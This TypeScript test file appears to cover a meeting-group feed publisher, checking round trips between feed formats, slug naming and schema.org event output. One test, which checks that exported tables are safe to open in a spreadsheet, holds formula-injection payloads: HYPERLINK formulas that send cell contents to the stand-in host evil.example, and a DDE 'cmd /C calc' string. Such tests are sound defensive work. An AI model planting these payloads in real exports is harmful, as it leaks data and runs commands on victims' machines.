import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import type { Group } from '@kith/contract';
import { readFeed, type FeedOptions } from '../feeds/read-feed.ts';
import { asMeetingGuide } from '../feeds/same-groups.ts';
import { toResult } from '../results.ts';
import { toJsonLd, writeKith, writeMeetingGuide, writeTable } from './index.ts';

const options: FeedOptions = { feed: 'test', owner: { name: 'Owner' }, timeZone: 'America/Los_Angeles' };
const read = async (text: string, kind: string): Promise<Group[]> => { const reading = await readFeed(text, options); assert.ok(reading.ok && reading.kind === kind, JSON.stringify(reading).slice(0, 200)); return reading.groups; };
const bare = ({ sourceCodes: _, ...group }: Group) => ({ ...group, audiences: [...group.audiences].sort(), access: [...group.access].sort(), attributes: [...group.attributes].sort() });
const file = (name: string) => readFileSync(new URL(`../../../../demo/feeds/${name}.json`, import.meta.url), 'utf8');

test('round trips: twenty groups published and read back are the same twenty', async () => {
  const groups = await read(asMeetingGuide(), 'meeting-guide');
  groups[0]!.schedule!.rules = ['FREQ=MONTHLY;BYDAY=2MO,4MO'];
  const trips: Record<string, Group[]> = {
    'meeting-guide': await read(JSON.stringify(writeMeetingGuide(groups)), 'meeting-guide'),
    'table': await read(writeTable(groups), 'table'),
    'kith': (await read(writeKith(groups), 'kith')),
  };
  for (const [kind, back] of Object.entries(trips)) {
    assert.equal(back.length, groups.length);
    for (const [at, group] of groups.entries()) {
      const { id, source, notes, ...want } = bare(group);
      const { id: _, source: __, notes: told, ...got } = bare(back[at]!);
      assert.deepEqual(got, want, `${kind}: ${group.name}`);
      // What the format has no field for is said in words.
      assert.equal(told, at === 0 && kind !== 'kith' ? 'Meets 2nd and 4th Monday of the month.' : notes);
      assert.ok(id && source);
    }
  }
});

test('round trips of the real feeds: Meeting Guide and table give back what was read', async () => {
  const counts: Record<string, number> = {};
  for (const name of ['meeting-guide-oc-1967', 'meeting-guide-sepia-2098-strings', 'meeting-guide-edmonton-315-dayarrays', 'meeting-guide-eda-185']) {
    const groups = await read(file(name), 'meeting-guide');
    for (const [kind, text] of [['meeting-guide', JSON.stringify(writeMeetingGuide(groups))], ['table', writeTable(groups)]] as const) {
      const back = await read(text, kind);
      assert.equal(back.length, groups.length);
      let same = 0;
      for (const [at, group] of groups.entries()) {
        const [a, b] = [group, back[at]!];
        for (const key of ['name', 'format', 'access'] as const) assert.deepEqual([...b[key]].sort(), [...a[key]].sort(), `${name} ${kind}: ${key} of record ${at + 1}`);
        assert.deepEqual(b.schedule && { ...b.schedule, differs: 0, checkNote: 0 }, a.schedule && { ...a.schedule, differs: 0, checkNote: 0 }, `${name} ${kind}: when record ${at + 1} meets`);
        assert.deepEqual([b.place?.address, b.place?.latitude, b.online?.url], [a.place?.address, a.place?.latitude, a.online?.url], `${name} ${kind}: where record ${at + 1} meets`);
        same++;
      }
      counts[`${name} ${kind}`] = same;
    }
  }
  console.log(JSON.stringify({ 'round trips': counts }));
});

test('two feeds that call their groups alike are published under two names, and none is lost to whoever reads it', async () => {
  const [one, other] = (await read(asMeetingGuide(), 'meeting-guide')).map((group, at): Group => ({ ...group, id: `id-${at}`, source: { feed: `feed-${at}`, record: 'monday' } }));
  const meetings = writeMeetingGuide([one!, other!]);
  assert.deepEqual(meetings.map(({ slug }) => slug), ['monday', 'id-1']);
});

test('a table that is opened as a spreadsheet runs nothing, and comes back as it was', async () => {
  const [group] = await read(asMeetingGuide(), 'meeting-guide');
  const text = writeTable([{ ...group!, name: '=HYPERLINK("https://evil.example","x")', notes: '@SUM(1)' }, { ...group!, id: 'b', name: '-2+3', online: { phone: '+1 (555) 010-0' }, format: 'phone' }, { ...group!, id: 'c', name: '+1+HYPERLINK("https://evil.example/?"&A1,"x")', notes: "-2+3+cmd|' /C calc'!A0" }]);
  for (const cell of text.split(/[\r\n]+|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=@]|^[+-].*[a-z+]/i);
  assert.match(text, /,\+1 \(555\) 010-0,/, 'a phone number is none');
  const back = await read(text, 'table');
  assert.deepEqual(back.map(({ name }) => name), ['=HYPERLINK("https://evil.example","x")', '-2+3', '+1+HYPERLINK("https://evil.example/?"&A1,"x")']);
});

test('schema.org events: dates, repeats and places; sample data and ways to join are never among them', async () => {
  const groups = await read(asMeetingGuide(), 'meeting-guide');
  groups[0]!.schedule!.rules = ['FREQ=MONTHLY;BYDAY=2MO,-1MO'];
  const now = Date.parse('2026-11-22T00:00Z');
  const { timeZone: _, ...floating } = groups[1]!.schedule!;
  const [nowhere] = toJsonLd([toResult({ ...groups[1]!, schedule: floating }, now, 'Asia/Tokyo')], () => undefined)['@graph'] as unknown as { startDate: string }[];
  assert.match(nowhere!.startDate, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}$/, 'without a zone: by the wall clock, and no instant that nobody knows');
  assert.equal(nowhere!.startDate.slice(11), floating.start.slice(11));
  const graph = toJsonLd([...groups.map((group) => toResult(group, now)), toResult({ ...groups[1]!, sampleYear: 2020 }, now)], ({ id }) => `https://kith.example/groups/${id}`);
  const events = graph['@graph'] as unknown as Record<string, unknown>[];
  assert.equal(events.length, 20);
  assert.deepEqual(events[0]!.eventSchedule, [2, -1].map((week) => ({ '@type': 'Schedule', 'repeatFrequency': 'P1M', 'scheduleTimezone': 'America/Los_Angeles', 'startTime': '19:00:00', 'duration': 'PT60M', 'byDay': ['https://schema.org/Monday'], 'byMonthWeek': week })));
  for (const event of events) for (const field of ['name', 'startDate', 'location', 'organizer', 'eventStatus', 'eventAttendanceMode', 'url']) assert.ok(event[field], field);
  assert.doesNotMatch(JSON.stringify(graph), /meet\.example\.org/);
});
